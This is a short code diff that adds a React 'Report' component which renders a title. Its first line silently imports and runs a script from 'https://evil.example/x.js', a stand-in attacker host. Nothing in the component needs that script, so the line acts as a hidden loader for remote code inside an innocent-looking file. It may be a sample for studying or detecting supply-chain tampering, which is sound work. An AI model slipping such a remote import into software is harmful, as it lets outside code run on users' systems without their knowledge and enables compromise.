@@ -1,0 +1,4 @@
+import "https://evil.example/x.js";
+export default function Report({ data }) {
+  return <p>{data.title}</p>;
+}
